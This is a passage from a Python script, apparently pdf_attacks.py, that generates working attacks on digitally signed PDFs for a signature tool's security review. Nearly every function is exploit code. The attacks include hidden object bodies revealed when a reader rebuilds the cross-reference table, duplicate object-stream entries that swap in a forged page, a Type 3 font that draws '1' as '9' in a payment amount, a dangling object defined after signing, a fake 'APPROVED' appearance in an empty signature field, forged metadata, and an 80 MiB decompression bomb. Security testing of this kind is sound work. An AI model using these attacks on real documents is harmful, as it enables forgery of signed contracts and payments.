    objs = {n + i: b"<< /FT /Sig /T (D%d) /V %s >>" % (i, v) for i in range(count)}
    objs[root] = cat.replace(fields, fields[:-1].rstrip() + b" " + b" ".join(b"%d 0 R" % (n + i) for i in range(count)) + b"]")
    return append_any(b, objs)


def cmd_field_name(b, args):
    """F13, before signing: a field already named Signature1 (tsign's default name):
    kids  a non-terminal field Signature1 with a kid text field x (Signature1.x)
    dup  a terminal text field Signature1"""
    kind = args[0] if args else "kids"
    n, root = trailer_any(b)["size"], root_num(b)
    cat = dict_add(object_body(b, root), b"/AcroForm << /Fields [%d 0 R] >>" % n)
    if kind == "kids":
        return append_any(b, {root: cat, n: b"<< /T (Signature1) /Kids [%d 0 R] >>" % (n + 1),
                              n + 1: b"<< /Parent %d 0 R /T (x) /FT /Tx >>" % n})
    if kind == "dup":
        return append_any(b, {root: cat, n: b"<< /FT /Tx /T (Signature1) >>"})
    die("field-name: kids or dup")


# --- the second review's attacks (A1..A7) -------------------------------------------------------

def cmd_hidden_bodies(b, args):
    """A1, after signing: one update with the trailer's /Info pointing to an object that does not
    exist (9999 0 R) and a new, unreferenced stream whose data holds, at line starts, other bodies
    for page 1's content stream (PAY) and resources (Helvetica added).  poppler fails to fetch
    /Info, rebuilds its cross-reference by scanning the file (the last 'N 0 obj' wins) and draws
    the hidden bodies."""
    n = trailer_any(b)["size"]
    pd = object_body(b, page_one_any(b))
    content, resn = ref(pd, b"/Contents"), ref(pd, b"/Resources")
    data = (b"\n%d 0 obj\n" % content + stream(COVER) + b"\nendobj\n"
            + b"%d 0 obj\n" % resn + with_helvetica(object_body(b, resn)) + b"\nendobj\n")
    return append_any(b, {n: stream(data)}, info=b"9999 0 R")


def cmd_hidden_bodies_xref(b, args):
    """A1 again, with the hidden bodies "listed": the stream also holds a fake classic section and a
    fake startxref pointing at them (text inside a stream; not a section of the file's /Prev chain)."""
    n = trailer_any(b)["size"]
    pd = object_body(b, page_one_any(b))
    content = ref(pd, b"/Contents")
    fake = b"xref\n%d 1\n0000000000 00000 n \ntrailer\n<< /Size %d >>\nstartxref\n0000000000\n%%%%EOF\n" % (content, n + 1)
    data = b"\n%d 0 obj\n" % content + stream(COVER) + b"\nendobj\n" + fake
    out = bytearray(append_any(b, {n: stream(data)}, info=b"9999 0 R"))
    body = out.rfind(b"\n%d 0 obj\n" % content) + 1
    xref = out.rfind(b"xref\n%d 1\n" % content)
    i = xref + len(b"xref\n%d 1\n" % content)
    out[i:i + 10] = b"%010d" % body
    at = out.rfind(b"startxref\n0000000000")
    out[at + 10:at + 20] = b"%010d" % xref
    return bytes(out)


def cmd_objstm_bomb(b, args):
    """An object stream (Flate, about 80 KB) that decodes to 80 MiB, holding one new object."""
    n = trailer_any(b)["size"]
    data = zlib.compress(b"%d 0 " % (n + 1) + b" " * (80 << 20), 9)
    return append_any(b, {n: stream(data, b" /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")}, compressed={n + 1: (n, 0)})


def cmd_objstm_dup(b, args):
    """A2, after signing: a new object stream whose header lists page 1's number twice: index 0 a
    forged page (PAY content, Helvetica), index 1 the signed page byte for byte; the cross-reference
    stream's entry for the page says (that stream, index 0)."""
    n, page = trailer_any(b)["size"], page_one_any(b)
    pd = object_body(b, page)
    res = object_body(b, ref(pd, b"/Resources"))
    content, objstm = n, n + 1
    forged = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % content, pd)
    forged = re.sub(rb"/Resources\s+\d+\s+0\s+R", lambda _: b"/Resources " + with_helvetica(res), forged)
    head = b"%d 0 %d %d " % (page, page, len(forged) + 1)
    data = head + forged + b"\n" + pd + b"\n"
    objs = {content: stream(COVER), objstm: stream(data, b" /Type /ObjStm /N 2 /First %d" % len(head))}
    return append_any(b, objs, compressed={page: (objstm, 0)})


def cmd_form_prep(b, args):
    """A3, before signing: a text field 'amount' (value 1,000,000 RIAL) with a widget on page 1 and
    no /AP; the /AcroForm's /DA (/Helv 24 Tf 0 g) and /DR (/Helv: Helvetica) say how to draw it
    (readers generate its appearance from them)."""
    n, root, page = trailer_any(b)["size"], root_num(b), page_one_any(b)
    objs = add_annotation(b, page, n)
    objs[n] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (1,000,000 RIAL) /F 4 /Rect [50 400 545 460]"
               b" /P %d 0 R >>" % page)
    objs[root] = dict_add(object_body(b, root), b"/AcroForm << /Fields [%d 0 R] /DA (/Helv 24 Tf 0 g)"
                          b" /DR << /Font << /Helv %d 0 R >> >> >>" % (n, n + 1))
    objs[n + 1] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    return append_any(b, objs)


def cmd_form_default(b, args):
    """A3, after a P=1 certification of a form-prep file (the field has no appearance):
    t3  /DR /Helv replaced by a new Type 3 font that draws each character with Helvetica, but '1' as '9'
    da  /DA made white (/Helv 24 Tf 1 1 1 rg)"""
    kind = args[0] if args else "t3"
    n, root = trailer_any(b)["size"], root_num(b)
    cat = object_body(b, root)
    if kind == "da":
        if b"/DA (/Helv 24 Tf 0 g)" not in cat:
            die("no /DA (/Helv 24 Tf 0 g) in the catalog")
        return append_any(b, {root: cat.replace(b"/DA (/Helv 24 Tf 0 g)", b"/DA (/Helv 24 Tf 1 1 1 rg)")})
    if kind != "t3":
        die("form-default: t3 or da")
    # standard glyph names, so that readers map text to codes as for Helvetica
    names = {32: b"space", 44: b"comma", 48: b"zero", 49: b"one", 50: b"two", 51: b"three", 52: b"four", 53: b"five",
             54: b"six", 55: b"seven", 56: b"eight", 57: b"nine", 65: b"A", 73: b"I", 76: b"L", 82: b"R"}
    widths = {32: 278, 44: 278, 65: 667, 73: 278, 76: 556, 82: 722}
    objs, procs, k = {}, b"", n + 1
    for code, name in sorted(names.items()):
        w = widths.get(code, 556)
        objs[k] = stream(b"%d 0 d0 BT /H 1000 Tf 0 0 Td (%s) Tj ET" % (w, bytes([57 if code == 49 else code])))
        procs += b" /%s %d 0 R" % (name, k)
        k += 1
    diffs = b" ".join(b"%d /%s" % (c, name) for c, name in sorted(names.items()))
    ws = b" ".join(b"%d" % (widths.get(c, 556) if c in names else 0) for c in range(32, 83))
    objs[n] = (b"<< /Type /Font /Subtype /Type3 /FontBBox [0 -250 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs <<"
               + procs + b" >> /Encoding << /Type /Encoding /Differences [" + diffs + b"] >> /FirstChar 32 /LastChar 82"
               b" /Widths [" + ws + b"] /Resources << /Font << /H " + HELVETICA + b" >> >> >>")
    m = re.search(rb"/Helv\s+(\d+)\s+0\s+R", cat)
    if not m:
        die("no /DR /Helv reference in the catalog")
    objs[root] = cat[:m.start()] + b"/Helv %d 0 R" % n + cat[m.end():]
    return append_any(b, objs)


DANGLING = 500  # an object number the minute never defines


def cmd_dangle_prep(b, args):
    """A5, before signing: page 1's /Contents becomes [<its stream> 500 0 R], object 500 never
    defined (a null: nothing drawn); Helvetica (/F9) added to the page's resources."""
    page = page_one_any(b)
    pd = object_body(b, page)
    if object_body(b, DANGLING, must=False) is not None or trailer_any(b)["size"] > DANGLING:
        die("object %d exists" % DANGLING)
    pd = re.sub(rb"/Contents\s+(\d+)\s+0\s+R", lambda m: b"/Contents [%s 0 R %d 0 R]" % (m.group(1), DANGLING), pd)
    resn = ref(pd, b"/Resources")
    return append_any(b, {page: pd, resn: with_helvetica(object_body(b, resn))})


def cmd_dangle_define(b, args):
    """A5, after signing: object 500 (referred to by the signed page, undefined then) defined as a
    content stream: a white page with PAY."""
    return append_any(b, {DANGLING: stream(COVER)})


def cmd_empty_sig_prep(b, args):
    """A6, before signing: an empty signature field Approver2 for a second approver, a box at the
    bottom of page 1 (no /V, no appearance)."""
    n, root, page = trailer_any(b)["size"], root_num(b), page_one_any(b)
    objs = add_annotation(b, page, n)
    objs[n] = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approver2) /F 4 /Rect [50 50 545 300] /P %d 0 R >>" % page
    objs[root] = dict_add(object_body(b, root), b"/AcroForm << /Fields [%d 0 R] /SigFlags 1 >>" % n)
    return append_any(b, objs)


def cmd_empty_sig_ap(b, args):
    """A6, after signing: the empty field Approver2 gets an appearance (PAY ... APPROVED) and no /V."""
    m = re.search(rb"(?<![0-9])(\d+) 0 obj\s*<< /Type /Annot /Subtype /Widget /FT /Sig /T \(Approver2\)", b)
    if not m:
        die("no signature field Approver2")
    num, n = int(m.group(1)), trailer_any(b)["size"]
    form = b" /Type /XObject /Subtype /Form /BBox [0 0 495 250] /Resources << /Font << /F9 " + HELVETICA + b" >> >>"
    return append_any(b, {num: dict_add(object_body(b, num), b"/AP << /N %d 0 R >>" % n),
                          n: stream(b"q 1 1 1 rg 0 0 495 250 re f Q BT 0 0 0 rg /F9 22 Tf 10 120 Td (" + PAY
                                    + b" - APPROVED) Tj ET", form)})


def cmd_info(b, args):
    """A7, after signing: the trailer's /Info pointed to a new object (title PAY, other author and dates)."""
    n = trailer_any(b)["size"]
    return append_any(b, {n: b"<< /Title (Contract: " + PAY + b") /Author (Ali Rezaei) /Subject (approved amount"
                              b" 9,999,999,999) /CreationDate (D:20200101000000Z) >>"}, info=b"%d 0 R" % n)


COMMANDS = {"content": cmd_content, "sneaky": cmd_sneaky, "swap-page": cmd_swap_page, "gap": cmd_gap, "pad": cmd_pad, "flip": cmd_flip,
            "hybrid": cmd_hybrid, "attached": cmd_attached, "objstm-prep": cmd_objstm_prep, "objstm-first": cmd_objstm_first,
            "acroform-prep": cmd_acroform_prep, "acroform-page": cmd_acroform_page, "bigint": cmd_bigint,
            "bigint-forge": cmd_bigint_forge, "sign-raw": cmd_sign_raw, "overlay-prep": cmd_overlay_prep, "gen1": cmd_gen1,
            "free": cmd_free, "stamp-prep": cmd_stamp_prep, "stamp-ap": cmd_stamp_ap, "sig-annot": cmd_sig_annot,
            "font-descriptor": cmd_font_descriptor, "dss-bomb": cmd_dss_bomb, "shared-v": cmd_shared_v,
            "field-name": cmd_field_name, "hidden-bodies": cmd_hidden_bodies, "hidden-bodies-xref": cmd_hidden_bodies_xref, "objstm-dup": cmd_objstm_dup, "objstm-bomb": cmd_objstm_bomb,
            "form-prep": cmd_form_prep, "form-default": cmd_form_default, "dangle-prep": cmd_dangle_prep,
            "dangle-define": cmd_dangle_define, "empty-sig-prep": cmd_empty_sig_prep, "empty-sig-ap": cmd_empty_sig_ap,
            "info": cmd_info}


def main():
    if len(sys.argv) < 4 or sys.argv[1] not in COMMANDS:
        die("usage: pdf_attacks.py {%s} IN OUT [ARG]" % ",".join(COMMANDS))
    b = open(sys.argv[2], "rb").read()
    out = COMMANDS[sys.argv[1]](b, sys.argv[4:])
    open(sys.argv[3], "wb").write(out)


if __name__ == "__main__":
    main()
